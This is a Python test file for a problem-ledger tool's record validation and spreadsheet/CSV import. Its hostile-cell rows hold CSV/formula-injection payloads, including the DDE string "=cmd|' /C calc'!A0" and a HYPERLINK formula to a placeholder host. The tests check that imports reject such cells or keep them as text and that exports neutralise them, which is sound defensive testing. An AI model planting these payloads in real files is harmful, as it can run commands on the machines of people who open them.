"""One hostile value, one outcome (hostile64): a record's, an event's and a workbook's cell alike.

1. A record's ``severity`` (or a step's ``action``) of another type than text (``7``, ``true``, a list) was
   ``bad_value`` on every record path (pydantic's literal error) and ``wrong_type`` in a ledger event; docs/records.md's
   ``wrong_type`` is "a number where text is expected". White space at either end of a name or a code (a CR, a tab, a
   vertical tab, a line separator: what a CRLF file or a spreadsheet's cell leaves) was stripped from a known name
   (``county\\r`` is county) and from an event's value, but a record's unknown one (``nowhere\\r``) was refused as a
   control character (``bad_value``) where the event said ``unknown_level``.
2. ``who FILE`` of a JSON file holding one ``\\ud800`` escape: the whole file ``unreadable``, where every other path
   says ``bad_text`` at the field (kept as a strict xfail: the reader is policy/_yaml.py's, not this helper's).
3. ``responsibility ledger import`` of workbooks and CSV files with hostile cells: each bad row rejected with its row
   and field, rows = imported + blank + rejected, no traceback, exit 2 only for a file it cannot use (1 with rejects,
   0 without: docs/ledger.md, ``ledger import --help``), and every export of what was imported neutralises the cells
   a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import math
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from responsibility import Policy
from tests.test_hostile63 import _ledger_outcome, base, by_assess, by_cli, by_dict, mutate, without_absent

pytest.importorskip("sqlalchemy", reason="the ledger needs the 'ledger' extra")
openpyxl = pytest.importorskip("openpyxl")

RunCli = Callable[..., tuple[int, str, str]]


# ------------------------------------------------------------------------------------- 1. a record and an event

@pytest.mark.parametrize(("path", "value", "code"), [
    ("severity", 7, "wrong_type"), ("severity", True, "wrong_type"), ("severity", 1.5, "wrong_type"),
    ("severity", ["grave"], "wrong_type"), ("severity", {"a": 1}, "wrong_type"), ("severity", "huge", "bad_value"),
    ("handled.0.action", 7, "wrong_type"), ("handled.0.action", False, "wrong_type"),
    ("handled.0.action", "passed", "bad_value"),
])
def test_a_severity_or_action_of_another_type_is_wrong_type_on_every_path(policy: Policy, tmp_path: Path, path: str,
                                                                          value: Any, code: str) -> None:
    """`{"severity": 7}` was bad_value (pydantic's literal error) from a dict, a batch and JSON lines, wrong_type in a
    ledger event; text naming no severity stays bad_value everywhere (docs/records.md, docs/ledger.md)."""
    record = mutate(base(), path, value)
    field = path.replace(".0.", "[0].")
    want = ("rej", code, field)
    assert by_dict(policy, record) == want
    assert by_assess(policy, [record], 1) == [want]
    (tmp_path / "in.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    assert by_cli(tmp_path / "in.jsonl", 1, tmp_path) == [want]
    if path == "severity":  # (an event has no action: its type is the step)
        event = without_absent(record)
        event.pop("concealed_by")
        event.pop("rectified_on")
        assert _ledger_outcome(tmp_path, event) == ("rej", code)


_ENDS = ["\r", "\n", "\t", "\x0b", "\x0c", "\x1f", "\x85", "\u2028", "\u3000", " \r\n"]


@pytest.mark.parametrize("end", _ENDS, ids=[repr(e) for e in _ENDS])
@pytest.mark.parametrize(("path", "known", "unknown", "code"), [
    ("discovered.level", "county", "nowhere", "unknown_level"),
    ("discovered.channel", "hotline", "nochannel", "unknown_channel"),
    ("discovered.body", "county_government", "nobody", "unknown_body"),
    ("handled.0.to_level", "township", "nowhere", "unknown_level"),
    ("kind", "housing_renovation_late", "nokind", "unknown_kind"),
    ("area", "housing", "noarea", "unknown_area"),
    ("place", "330127100219", "33012710021", "bad_place"),
    ("severity", "serious", "huge", "bad_value"),
])
def test_white_space_at_either_end_is_no_part_of_a_name_on_every_path(policy: Policy, tmp_path: Path, path: str,
                                                                      known: str, unknown: str, code: str,
                                                                      end: str) -> None:
    """A CR (a tab, a line separator …) at either end of a name was stripped from a known one and from an event's
    value, and refused as a control character (bad_value) in a record's unknown one: `"nowhere\\r"` was bad_value
    from a dict and unknown_level from the ledger."""
    field = path.replace(".0.", "[0].")
    for value, want in ((known + end, None), (end + known, None), (unknown + end, ("rej", code, field))):
        record = mutate(base(), path, value)
        got = by_dict(policy, record)
        assert (got if got[0] == "rej" else None) == want, (value, got)
        assert by_assess(policy, [record], 1) == [got], value
        event = without_absent(record)
        event.pop("concealed_by")
        event.pop("rectified_on")
        assert _ledger_outcome(tmp_path, event) == (("ok",) if want is None else ("rej", code)), value


def test_the_id_keeps_its_own_rule(policy: Policy) -> None:
    """The id is kept as written bar its spaces (docs/records.md): a CR at its end is still a control character."""
    assert by_dict(policy, {**base(), "id": "P1\r"}) == ("rej", "bad_value", "id")
    assert by_dict(policy, {**base(), "id": " P1 "})[0] == "ok"


# ------------------------------------------------------------------------------ 2. one record file, one problem

def _surrogate_file(tmp_path: Path) -> Path:
    text = json.dumps(base(), indent=1).replace('"level": "county"', '"level": "\\ud800"', 1)
    assert "\\ud800" in text
    path = tmp_path / "r.json"
    path.write_text(text, encoding="utf-8")
    return path


def test_a_json_record_file_with_a_lone_surrogate_escape_is_bad_text_at_the_field(policy: Policy,
                                                                                  tmp_path: Path) -> None:
    from responsibility import ProblemError

    with pytest.raises(ProblemError) as e:
        policy.who_answers(_surrogate_file(tmp_path))
    assert (e.value.code, e.value.field) == ("bad_text", "discovered.level")


def test_a_record_file_with_a_lone_surrogate_is_refused_at_its_line_and_column(policy: Policy, tmp_path: Path,
                                                                              run_cli: RunCli) -> None:
    """What holds until the reader changes: refused, never a traceback, with where (and as bad_text from a dict); a
    YAML file whose bytes are a surrogate's (ED A0 80: not UTF-8) is unreadable as a whole, as the docs say."""
    from responsibility import ProblemError

    path = _surrogate_file(tmp_path)
    code, _, err = run_cli("who", str(path))
    assert code == 2 and "Traceback" not in err and f"{path}:9:" in err and "lone surrogate" in err, err
    assert by_dict(policy, json.loads(path.read_text(encoding="utf-8"))) == ("rej", "bad_text", "discovered.level")
    yaml_path = tmp_path / "r.yaml"
    yaml_path.write_bytes(b"id: P1\narea: housing\nplace: '330127100219'\nkind: \xed\xa0\x80\n")
    with pytest.raises(ProblemError) as e:
        policy.who_answers(yaml_path)
    assert e.value.code == "unreadable" and "UTF-8" in str(e.value), str(e.value)
    code, _, err = run_cli("who", str(yaml_path))
    assert code == 2 and "Traceback" not in err, err


# ---------------------------------------------------------------------------------------- 3. a workbook's cells

HEADER = ["问题编号", "领域", "所在地代码", "严重程度", "问题描述", "发现时间", "发现层级", "发现渠道", "交办时间",
          "整改层级", "整改时限", "整改完成时间"]
GOOD = ["A", "危房改造", "330127100219", "一般", "屋顶漏雨", "2021-03-01", "县", "热线", "2021-03-03", "乡镇",
        "2021-04-01", None]
_TEXT = "s"  # (a cell typed as text: openpyxl makes a formula of text that starts with '=')


class Row:
    """A row of the example: ``GOOD`` with some cells changed; ``want`` None (imported) or (code, header)."""

    def __init__(self, want: tuple[str, str] | None, *, blank: list[Any] | None = None, **cells: Any) -> None:
        self.want, self.cells, self.blank = want, cells, blank

    def values(self, n: int) -> list[Any]:
        if self.blank is not None:
            return list(self.blank)
        out = list(GOOD)
        out[0] = f"R{n}"
        for k, v in self.cells.items():
            out[HEADER.index(k)] = v
        return out


#: A row of empty cells and one of spaces, between filled ones: blank, skipped and counted (docs/ledger.md).
BLANK = [Row(None, blank=[None] * len(HEADER)), Row(None, blank=["  ", "\u3000", None, ""])]

#: Hostile cells of a workbook, each a row's change and what becomes of the row.
XLSX_ROWS: list[Row] = [
    Row(None),
    # text a spreadsheet would run as a formula, typed as text: kept as the text it is (exports neutralise it)
    Row(None, 问题描述=("=cmd|' /C calc'!A0", _TEXT)), Row(None, 问题编号="+R2"), Row(None, 问题编号="-R3"),
    Row(None, 问题编号="@R4"), Row(None, 问题描述="\t=1+1"), Row(None, 问题描述="\r=1+1"),
    Row(None, 问题编号=("=R7", _TEXT)),
    # a formula Excel never calculated, and Excel's error values: no value to read
    Row(("bad_value", "问题描述"), 问题描述="=1+1"),
    Row(("bad_value", "所在地代码"), 所在地代码="#N/A"), Row(("bad_value", "发现时间"), 发现时间="#VALUE!"),
    Row(("bad_value", "领域"), 领域="#REF!"), Row(("bad_value", "问题描述"), 问题描述="#DIV/0!"),
    # huge cells
    Row(None, 问题描述="长" * 32_767), Row(("bad_value", "问题编号"), 问题编号="P" * 201),
    Row(("bad_value", "发现层级"), 发现层级="县" * 5_000), Row(("bad_value", "发现渠道"), 发现渠道="热" * 300),
    Row(("bad_value", "发现层级"), 发现层级="县\u200b"),  # (a workbook holds no ESC: openpyxl refuses to write one)
    Row(None, 发现层级="县\r"), Row(("unknown_level", "发现层级"), 发现层级="哪里\r"),
    # days: a date cell, a day with a time, text in several forms, Excel's serial number, a time alone, true
    Row(None, 发现时间=dt.datetime(2021, 3, 1)), Row(None, 发现时间=dt.datetime(2021, 3, 1, 13, 45)),
    Row(None, 发现时间="2021/3/1"), Row(None, 发现时间="2021年3月1日"),
    Row(("bad_date", "发现时间"), 发现时间=44256), Row(("bad_date", "发现时间"), 发现时间="44256"),
    Row(("bad_date", "发现时间"), 发现时间=44256.5), Row(("bad_date", "发现时间"), 发现时间="2021-02-30"),
    Row(("bad_date", "发现时间"), 发现时间=dt.time(12, 0)), Row(("bad_date", "发现时间"), 发现时间=True),
    Row(("bad_date", "整改时限"), 整改时限=1e308),
    # numbers and true/false where text is due: a division code is a number in a spreadsheet; a name never is
    Row(None, 所在地代码=330127100219), Row(None, 所在地代码=330127100219.0),
    Row(("wrong_type", "所在地代码"), 所在地代码=330127100219.5),  # (a record's place so: hostile65)
    # (NaN and infinity: no number a workbook holds; openpyxl writes an empty cell)
    Row(("missing_field", "所在地代码"), 所在地代码=math.nan),
    Row(("missing_field", "所在地代码"), 所在地代码=math.inf),
    Row(("wrong_type", "发现层级"), 发现层级=True), Row(("wrong_type", "整改层级"), 整改层级=False),
    Row(("wrong_type", "领域"), 领域=5), Row(("wrong_type", "发现渠道"), 发现渠道=1.5),
    Row(("wrong_type", "严重程度"), 严重程度=2), Row(("wrong_type", "发现层级"), 发现层级=dt.datetime(2021, 3, 1)),
    Row(("wrong_type", "问题描述"), 问题描述=True), Row(None, 问题描述=12345),
    *BLANK, Row(None),
]


def _workbook(path: Path, rows: list[list[Any]], header: list[str] = HEADER,
              setup: Callable[[Any], None] | None = None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "台账"
    ws.append(header)
    for r, cells in enumerate(rows, start=2):
        for c, v in enumerate(cells, start=1):
            if isinstance(v, tuple):
                cell = ws.cell(r, c, v[0])
                cell.data_type = v[1]
            elif isinstance(v, str) and v.startswith("#") and v.endswith(("!", "A")):
                cell = ws.cell(r, c, v)
                cell.data_type = "e"  # Excel's error value (openpyxl writes t="e")
            else:
                ws.cell(r, c, v)
    if setup is not None:
        setup(ws)
    wb.save(path)
    return path


def _rows(rows: list[Row]) -> list[list[Any]]:
    return [r.values(n) for n, r in enumerate(rows, start=1)]


@pytest.fixture()
def ledger_db(tmp_path: Path, run_cli: RunCli) -> Iterator[Callable[[str], str]]:
    made: dict[str, str] = {}

    def make(name: str = "l.db") -> str:
        if "empty" not in made:
            made["empty"] = str(tmp_path / "empty.db")
            assert run_cli("ledger", "init", made["empty"])[0] == 0
        shutil.copy(made["empty"], tmp_path / name)
        return str(tmp_path / name)

    yield make


def _import(run_cli: RunCli, db: str, path: Path, *extra: str) -> tuple[int, str, list[dict[str, str]] | None]:
    rejects = path.with_name(path.stem + "-rejects.csv")
    rejects.unlink(missing_ok=True)
    code, out, err = run_cli("ledger", "import", db, str(path), "--by", "县扶贫办", "--rejects", str(rejects), *extra)
    assert "Traceback" not in err and "internal error" not in err, err
    if not rejects.exists():
        return code, out + err, None
    with open(rejects, encoding="utf-8-sig", newline="") as f:
        return code, out + err, list(csv.DictReader(f))


def _check(rows: list[Row], code: int, said: str, rejects: list[dict[str, str]] | None, blank: int) -> None:
    assert rejects is not None, said
    got = {int(r["row"]): (r["code"], r["field"]) for r in rejects}
    want = {n + 1: r.want for n, r in enumerate(rows, start=1) if r.want is not None}
    assert got == want, "\n".join(f"row {n}: got {got.get(n)}, want {want.get(n)}"
                                  for n in sorted({*got, *want}) if got.get(n) != want.get(n))
    for r in rejects:
        assert len(r["reason"]) <= 600, r  # (a 5,000-character cell is not said back whole)
    imported = len(rows) - len(want) - blank
    assert f"共 {len(rows)} 行 = 已导入 {imported} + 空行 {blank} + 拒收 {len(want)}（核对一致）" in said, said
    assert code == (1 if want else 0), (code, said)


def test_a_workbook_of_hostile_cells_rejects_each_bad_row_with_its_row_and_field(tmp_path: Path, run_cli: RunCli,
                                                                                 ledger_db: Callable[[str], str]
                                                                                 ) -> None:
    path = _workbook(tmp_path / "hostile.xlsx", _rows(XLSX_ROWS))
    code, said, rejects = _import(run_cli, ledger_db("l.db"), path)
    _check(XLSX_ROWS, code, said, rejects, blank=2)


#: The same for a CSV file: every cell text, as a CSV's is.
CSV_ROWS: list[Row] = [
    Row(None), Row(None, 问题描述="=cmd|' /C calc'!A0"), Row(None, 问题编号="+R2"), Row(None, 问题编号="-R3"),
    Row(None, 问题编号="@R4"), Row(None, 问题描述="\t=1+1"), Row(None, 问题描述="\r=1+1"), Row(None, 问题编号="=R7"),
    Row(None, 问题描述="长" * 32_767), Row(("bad_value", "问题描述"), 问题描述="长" * 32_768),
    Row(("bad_value", "问题编号"), 问题编号="P" * 201), Row(("bad_value", "发现层级"), 发现层级="县" * 5_000),
    Row(("bad_value", "发现层级"), 发现层级="县\x1b[2J"), Row(None, 发现层级="县\r"),
    Row(("unknown_level", "发现层级"), 发现层级="哪里\r"),
    Row(None, 发现时间="2021-03-01 00:00:00"), Row(None, 发现时间="2021/3/1"),
    Row(("bad_date", "发现时间"), 发现时间="44256"), Row(("bad_date", "发现时间"), 发现时间="2021-02-30"),
    Row(("bad_date", "发现时间"), 发现时间="TRUE"),
    Row(("bad_place", "所在地代码"), 所在地代码="NaN"), Row(("bad_place", "所在地代码"), 所在地代码="inf"),
    Row(("bad_place", "所在地代码"), 所在地代码="3.30127E+11"),
    Row(("unknown_level", "发现层级"), 发现层级="TRUE"), Row(("unknown_area", "领域"), 领域="5"),
    *BLANK, Row(None),
]


def test_a_csv_file_of_hostile_cells_rejects_each_bad_row_with_its_row_and_field(tmp_path: Path, run_cli: RunCli,
                                                                                 ledger_db: Callable[[str], str]
                                                                                 ) -> None:
    path = tmp_path / "hostile.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([HEADER, *_rows(CSV_ROWS)])
    code, said, rejects = _import(run_cli, ledger_db("l.db"), path)
    _check(CSV_ROWS, code, said, rejects, blank=2)


def test_merged_cells_read_as_excel_shows_them(tmp_path: Path, run_cli: RunCli,
                                               ledger_db: Callable[[str], str]) -> None:
    """A range merged down a column is the value of each row beside it; one merged across columns leaves the other
    columns without a value: that row is rejected naming the cell."""
    rows = [Row(None).values(n) for n in range(1, 5)]
    rows[1][1] = None

    def merge(ws: Any) -> None:
        ws.merge_cells("B2:B3")  # 领域 of rows 2 and 3
        ws.merge_cells("A4:C4")  # 问题编号 over 领域 and 所在地代码

    code, said, rejects = _import(run_cli, ledger_db("l.db"), _workbook(tmp_path / "m.xlsx", rows, setup=merge))
    assert code == 1 and rejects is not None
    assert [(r["row"], r["field"], r["code"]) for r in rejects] == [("4", "领域", "bad_value")], rejects
    assert "merged range A4:C4" in rejects[0]["reason"]
    assert "共 4 行 = 已导入 3 + 拒收 1" in said, said


@pytest.mark.parametrize("case", ["duplicate mapped header", "no sheet so named", "no required column",
                                  "empty workbook", "not a workbook", "an old .xls"])
def test_a_file_the_import_cannot_use_is_exit_2_and_stores_nothing(tmp_path: Path, run_cli: RunCli,
                                                                   ledger_db: Callable[[str], str], case: str) -> None:
    good = [Row(None).values(1)]
    extra: tuple[str, ...] = ()
    if case == "duplicate mapped header":
        path = _workbook(tmp_path / "f.xlsx", [[*good[0], "危房改造"]], header=[*HEADER, "领域"])
    elif case == "no sheet so named":
        path, extra = _workbook(tmp_path / "f.xlsx", good), ("--sheet", "第二季度")
    elif case == "no required column":
        path = _workbook(tmp_path / "f.xlsx", [good[0][1:]], header=HEADER[1:])
    elif case == "empty workbook":
        path = tmp_path / "f.xlsx"
        openpyxl.Workbook().save(path)
    elif case == "not a workbook":
        path = tmp_path / "f.xlsx"
        path.write_bytes(b"PK\x03\x04" + b"\x00" * 200)
    else:
        path = tmp_path / "f.xls"
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500)
    db = ledger_db("l.db")
    code, said, _ = _import(run_cli, db, path, *extra)
    assert code == 2 and "error:" in said, said
    assert run_cli("ledger", "list", db, "problems")[1].count("\n") == 1  # (the header alone: nothing stored)


def test_a_duplicate_header_no_field_takes_is_not_read(tmp_path: Path, run_cli: RunCli,
                                                       ledger_db: Callable[[str], str]) -> None:
    rows = [[*Row(None).values(1), "x", "y"]]
    code, said, rejects = _import(run_cli, ledger_db("l.db"),
                                  _workbook(tmp_path / "f.xlsx", rows, header=[*HEADER, "备注", "备注"]))
    assert code == 0 and rejects == [] and "备注" in said, said


#: The ledger's own English column names (`ledger list --lang en`), for the Chinese headers of HEADER.
ENGLISH = ["problem", "area", "place", "severity", "description", "discovered_on", "discovered_level", "channel",
           "assigned_on", "assignee_level", "deadline", "rectified_on"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_header_in_english_reads_as_the_chinese_one(tmp_path: Path, run_cli: RunCli,
                                                      ledger_db: Callable[[str], str], suffix: str) -> None:
    """A ledger's list written with English headers (`ledger list problems --lang en`: problem, area, place,
    discovered_on …) was refused, "no column for problem, area, place", where the same list with Chinese headers was
    imported: the field names are the English headers, read where no header of the mapping is there."""
    rows = [Row(None).values(n) for n in (1, 2)]
    rows[1][6] = "county"  # (ids, as the English list writes them)
    outcomes = []
    for header, name in ((HEADER, "zh"), (ENGLISH, "en")):
        path = tmp_path / f"{name}{suffix}"
        if suffix == ".xlsx":
            _workbook(path, rows, header=header)
        else:
            with open(path, "w", encoding="utf-8", newline="") as f:
                csv.writer(f).writerows([header, *rows])
        db = ledger_db(f"{name}.db")
        code, said, rejects = _import(run_cli, db, path)
        assert code == 0 and rejects == [], said
        outcomes.append(run_cli("ledger", "list", db, "problems", "--as-of", "2021-06-30", "--lang", "en")[1])
    assert outcomes[0] == outcomes[1]


FORMULA_IDS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "＝1", "－1", "＋1", "＠1"]


def _formula_ledger(tmp_path: Path, run_cli: RunCli, db: str) -> None:
    rows = []
    for n, pid in enumerate(FORMULA_IDS, start=1):
        r = Row(None).values(n)
        r[0], r[4] = pid, '=HYPERLINK("http://example.invalid/?"&A1,"click")'
        rows.append(r)
    bad = Row(None).values(99)
    bad[0], bad[6] = "=2+2", "=cmd|' /C calc'!A0"
    rows.append(bad)
    path = tmp_path / "formulas.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([HEADER, *rows])
    code, said, rejects = _import(run_cli, db, path)
    assert code == 1 and rejects is not None and [r["row"] for r in rejects] == [str(len(rows) + 1)], said
    assert rejects[0]["problem"] == "'=2+2"  # (the rejects file is one a spreadsheet opens too)
    for name in ("rejects.xlsx",):
        code, _, _ = run_cli("ledger", "import", db, str(path), "--by", "x", "--rejects", str(tmp_path / name))
        wb = openpyxl.load_workbook(tmp_path / name)
        for row in wb.worksheets[0].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert not _formula_like(cell.value) or cell.quotePrefix, (cell.coordinate, cell.value)


def _formula_like(value: Any) -> bool:
    from responsibility._files import FORMULA_PREFIXES

    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def test_the_exports_of_formula_like_cells_are_never_formulas(tmp_path: Path, run_cli: RunCli,
                                                              ledger_db: Callable[[str], str]) -> None:
    """Ids and descriptions a spreadsheet would run (=, +, -, @ and their full-width forms) come out of every export as
    text: an apostrophe before them in CSV, a text cell marked "quote prefix" in a workbook."""
    db = ledger_db("l.db")
    _formula_ledger(tmp_path, run_cli, db)
    assert run_cli("ledger", "export", db, str(tmp_path / "e.xlsx"), "--as-of", "2021-06-30")[0] == 0
    wb = openpyxl.load_workbook(tmp_path / "e.xlsx")
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if _formula_like(cell.value):
                    seen += 1
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert seen >= 2 * len(FORMULA_IDS)
    for lst in ("problems", "responsibilities", "rectifications"):
        for lang in ("zh", "en"):
            out = tmp_path / f"{lst}-{lang}.csv"
            assert run_cli("ledger", "list", db, lst, "-o", str(out), "--as-of", "2021-06-30", "--lang", lang)[0] == 0
            with open(out, encoding="utf-8-sig", newline="") as f:
                cells = [c for r in csv.reader(f) for c in r]
            stdout = run_cli("ledger", "list", db, lst, "--as-of", "2021-06-30", "--lang", lang)[1]
            cells += [c for r in csv.reader(stdout.splitlines()) for c in r]
            bad = [c for c in cells if _formula_like(c) and not c.lstrip("-").replace(".", "").isdigit()]
            assert not bad, (lst, lang, bad[:5])
            assert any(c.startswith("'=") for c in cells), (lst, lang)


def test_a_list_the_ledger_wrote_imports_back_with_its_ids(tmp_path: Path, run_cli: RunCli,
                                                           ledger_db: Callable[[str], str]) -> None:
    """The CSV `ledger list problems -o` writes neutralises `=1+1` as `'=1+1`; importing that list into another ledger
    made the problem `'=1+1`, no longer the id the office gave it. The apostrophe before a formula's first character
    is read as the mark it is (the cell `'=1+1` is the id `=1+1`, as Excel shows it)."""
    db = ledger_db("l.db")
    _formula_ledger(tmp_path, run_cli, db)
    out = tmp_path / "p.csv"
    assert run_cli("ledger", "list", db, "problems", "-o", str(out), "--as-of", "2021-06-30")[0] == 0
    again = ledger_db("again.db")
    code, said, rejects = _import(run_cli, again, out)
    assert code == 0 and rejects == [], said

    def ids(d: str) -> list[str]:
        out = tmp_path / "ids.json"  # (JSON, which no spreadsheet opens: the ids as they are)
        assert run_cli("ledger", "list", d, "problems", "--as-of", "2021-06-30", "--lang", "en", "-o", str(out))[0] == 0
        rows = json.loads(out.read_text(encoding="utf-8"))
        return sorted(r["problem"] for r in (rows if isinstance(rows, list) else rows["rows"]))

    assert ids(again) == ids(db)
    assert len(ids(db)) == len(FORMULA_IDS)


def test_a_number_the_mapping_names_is_read_as_its_word(tmp_path: Path, run_cli: RunCli,
                                                        ledger_db: Callable[[str], str]) -> None:
    """An office that codes 严重程度 as 1, 2, 3 names them in its mapping's values: a number cell is read so (a number
    no value names is wrong_type)."""
    mapping = tmp_path / "m.yaml"
    default = Path(__file__).resolve().parents[1] / "src" / "responsibility" / "ledger" / "mapping.yaml"
    mapping.write_text(default.read_text(encoding="utf-8").replace("    一般: minor\n",
                                                                   "    一般: minor\n    1: minor\n    3: grave\n"),
                       encoding="utf-8")
    rows = [Row(None, 严重程度=1).values(1), Row(None, 严重程度=3.0).values(2), Row(None, 严重程度=2).values(3)]
    db = ledger_db("l.db")
    code, said, rejects = _import(run_cli, db, _workbook(tmp_path / "n.xlsx", rows), "--mapping", str(mapping))
    assert code == 1 and rejects is not None, said
    assert [(r["row"], r["field"], r["code"]) for r in rejects] == [("4", "严重程度", "wrong_type")], rejects
    listed = run_cli("ledger", "list", db, "problems", "--as-of", "2021-06-30", "--lang", "en")[1]
    assert {r["problem"]: r["severity"] for r in csv.DictReader(listed.splitlines())} == {"R1": "minor", "R2": "grave"}
